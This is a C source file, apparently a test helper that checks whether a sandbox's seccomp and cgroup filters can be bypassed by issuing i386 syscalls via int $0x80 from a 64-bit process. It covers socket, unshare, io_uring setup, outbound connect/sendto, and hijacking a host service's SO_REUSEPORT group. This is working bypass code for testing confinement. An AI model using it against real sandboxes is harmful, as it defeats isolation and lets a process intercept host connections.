// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * compat32.c - syscalls through the i386 ABI (int $0x80) from a 64-bit
 * process: a seccomp filter that only knows the x86_64 numbers lets these
 * through. x86_64 only; CONFIG_IA32_EMULATION must be on for the ABI to
 * exist at all ("ENOSYS" otherwise).
 *
 *   compat32 probe                      whether this kernel serves the ABI at
 *                                       all: i386 getpid() (nr 20) in a child;
 *                                       "probe ok", or "probe err <why>" and
 *                                       exit 1 (some VMs raise SIGSEGV for
 *                                       every int $0x80; ENOSYS: no IA32
 *                                       emulation)
 *   compat32 socket FAMILY TYPE PROTO   i386 socket() (nr 359)
 *   compat32 socketcall FAMILY TYPE PROTO   i386 socketcall(SYS_SOCKET)
 *   compat32 unshare FLAGS              i386 unshare() (nr 310)
 *   compat32 io_uring_setup             i386 io_uring_setup() (nr 425)
 *   compat32 connect ADDR PORT          i386 connect() (nr 362) of a TCP
 *                                       socket to ADDR:PORT (IPv4)
 *   compat32 sendto ADDR PORT           i386 sendto() (nr 369) of a UDP
 *                                       datagram to ADDR:PORT (IPv4)
 *   compat32 reuseport-squat ADDR PORT  join the SO_REUSEPORT group of a
 *                                       service on ADDR:PORT (IPv4) with
 *                                       listeners of ours whose
 *                                       SO_REUSEPORT is set through the i386
 *                                       setsockopt() (nr 366), which no
 *                                       cgroup/setsockopt program sees;
 *                                       connect after each, as sock.py
 *                                       reuseport-squat does
 *
 * One line per step: "<step> ok [detail]" or "<step> err <ERRNO> 0".
 * Arguments live in a MAP_32BIT mapping so that 32-bit pointers reach them.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

static long int80(long nr, long a, long b, long c)
{
	long ret;

	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(nr), "b"(a), "c"(b), "d"(c)
			 : "memory", "r8", "r9", "r10", "r11");
	return ret;
}

static long int80_6(long nr, long a, long b, long c, long d, long e, long f)
{
	register long ebp __asm__("rbp") = f;
	long ret;

	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e), "r"(ebp)
			 : "memory", "r8", "r9", "r10", "r11");
	return ret;
}

static long int80_5(long nr, long a, long b, long c, long d, long e)
{
	long ret;

	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e)
			 : "memory", "r8", "r9", "r10", "r11");
	return ret;
}

static void result(const char *step, long ret, const char *okword)
{
	if (ret < 0 && ret > -4096) {
		const char *name = strerrorname_np((int)-ret);

		printf("%s err %s 0\n", step, name ? name : "E?");
	} else {
		printf("%s ok %s %ld\n", step, okword, ret);
		if (okword[0] == 'F') /* a file descriptor */
			close((int)ret);
	}
	fflush(stdout);
}


/* connect()/sendto() through the i386 ABI; the address in a 32-bit mapping. */
static int compat_send(const char *how, const char *ip, int port)
{
	struct sockaddr_in *sa = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
				      MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
				      -1, 0);
	char *data;
	int tcp = !strcmp(how, "connect");
	int s = socket(AF_INET, tcp ? SOCK_STREAM : SOCK_DGRAM, 0);

	if (sa == MAP_FAILED || s < 0)
		return perror("setup"), 1;
	memset(sa, 0, sizeof(*sa));
	sa->sin_family = AF_INET;
	sa->sin_port = htons((uint16_t)port);
	if (inet_pton(AF_INET, ip, &sa->sin_addr) != 1)
		return 2;
	data = (char *)(sa + 1);
	strcpy(data, "escape via the i386 ABI");
	if (tcp)
		result("connect32", int80(362, s, (long)(uintptr_t)sa, sizeof(*sa)),
		       "CONNECTED");
	else
		result("sendto32", int80_6(369, s, (long)(uintptr_t)data,
					   (long)strlen(data), 0,
					   (long)(uintptr_t)sa, sizeof(*sa)),
		       "SENT");
	close(s);
	return 0;
}

/* One connection to addr: "HOST" (the host service's banner), "own" (a
 * listener of ours: accepted, never answered) or the errno name. */
static const char *attempt(const struct sockaddr_in *addr)
{
	struct timeval tv = { .tv_sec = 0, .tv_usec = 300000 };
	char buf[64] = { 0 };
	const char *res;
	int c = socket(AF_INET, SOCK_STREAM, 0);
	ssize_t n;

	if (c < 0)
		return strerrorname_np(errno);
	setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	if (connect(c, (const struct sockaddr *)addr, sizeof(*addr)) < 0) {
		res = strerrorname_np(errno);
		close(c);
		return res ? res : "E?";
	}
	n = recv(c, buf, sizeof(buf) - 1, 0);
	res = n > 0 && strstr(buf, "HOST-SERVICE") ? "HOST" : "own";
	close(c);
	return res;
}

static int reuseport_squat(const char *ip, int port)
{
	struct sockaddr_in addr = { .sin_family = AF_INET,
				    .sin_port = htons((uint16_t)port) };
	uint32_t *one = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			     MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	const char *r;

	if (one == MAP_FAILED || inet_pton(AF_INET, ip, &addr.sin_addr) != 1)
		return 2;
	*one = 1;
	r = attempt(&addr);
	if (!strcmp(r, "HOST") || !strcmp(r, "own"))
		printf("connect-before ok\n");
	else
		printf("connect-before err %s 0\n", r);
	for (int k = 1; k <= 8; k++) {
		int s = socket(AF_INET, SOCK_STREAM, 0), hit = 0;
		long ret;

		if (s < 0)
			return printf("socket err %s 0\n", strerrorname_np(errno)), 0;
		ret = int80_5(366, s, SOL_SOCKET, SO_REUSEPORT,
			     (long)(uintptr_t)one, 4);
		if (ret < 0) {
			printf("setsockopt32 err %s 0\n", strerrorname_np((int)-ret));
			break;
		}
		if (bind(s, (struct sockaddr *)&addr, sizeof(addr)) < 0 ||
		    listen(s, 64) < 0) {
			printf("join-%d err %s 0\n", k, strerrorname_np(errno));
			break;
		}
		printf("group-%d", k);
		for (int i = 0; i < 8; i++) {
			r = attempt(&addr);
			printf("%s%s", i ? "," : " ", r);
			hit |= !strcmp(r, "HOST");
		}
		printf("\n");
		fflush(stdout);
		if (hit) {
			printf("reach-host ok REACHED the host service with %d socket(s) of ours in its group\n", k);
			return 0;
		}
	}
	printf("reach-host err NEVER 0\n");
	return 0;
}

/* In a child: where the ABI is absent the trap kills the caller. */
static int probe(void)
{
	int status;
	pid_t pid = fork();

	if (pid < 0)
		return perror("fork"), 1;
	if (pid == 0) {
		long ret = int80(20 /* getpid */, 0, 0, 0);

		_exit(ret == getpid() ? 0 : ret == -ENOSYS ? 2 : 3);
	}
	if (waitpid(pid, &status, 0) < 0)
		return perror("waitpid"), 1;
	if (WIFEXITED(status) && WEXITSTATUS(status) == 0)
		return printf("probe ok\n"), 0;
	if (WIFSIGNALED(status))
		printf("probe err %s\n", sigabbrev_np(WTERMSIG(status)) ?: "signal");
	else if (WEXITSTATUS(status) == 2)
		printf("probe err ENOSYS\n");
	else
		printf("probe err getpid answered wrong\n");
	return 1;
}

int main(int argc, char **argv)
{
	if (argc == 2 && !strcmp(argv[1], "probe"))
		return probe();
	if (argc == 4 && (!strcmp(argv[1], "connect") || !strcmp(argv[1], "sendto")))
		return compat_send(argv[1], argv[2], atoi(argv[3]));
	if (argc == 4 && !strcmp(argv[1], "reuseport-squat"))
		return reuseport_squat(argv[2], atoi(argv[3]));
	if (argc == 5 && !strcmp(argv[1], "socket")) {
		result("socket32", int80(359, strtol(argv[2], NULL, 0),
					 strtol(argv[3], NULL, 0),
					 strtol(argv[4], NULL, 0)),
		       "FD");
		return 0;
	}
	if (argc == 5 && !strcmp(argv[1], "socketcall")) {
		uint32_t *args = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
				      MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
				      -1, 0);

		if (args == MAP_FAILED)
			return perror("mmap"), 1;
		args[0] = (uint32_t)strtol(argv[2], NULL, 0);
		args[1] = (uint32_t)strtol(argv[3], NULL, 0);
		args[2] = (uint32_t)strtol(argv[4], NULL, 0);
		result("socketcall32", int80(102, 1 /* SYS_SOCKET */,
					     (long)(uintptr_t)args, 0),
		       "FD");
		return 0;
	}
	if (argc == 3 && !strcmp(argv[1], "unshare")) {
		result("unshare32", int80(310, strtol(argv[2], NULL, 0), 0, 0),
		       "NEW-NAMESPACE");
		return 0;
	}
	if (argc == 2 && !strcmp(argv[1], "io_uring_setup")) {
		uint8_t *params = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
				       MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
				       -1, 0);

		if (params == MAP_FAILED)
			return perror("mmap"), 1;
		memset(params, 0, 4096);
		result("io_uring_setup32", int80(425, 4, (long)(uintptr_t)params, 0),
		       "FD");
		return 0;
	}
	fprintf(stderr, "usage: compat32 socket|socketcall F T P | unshare FLAGS | io_uring_setup\n");
	return 2;
}
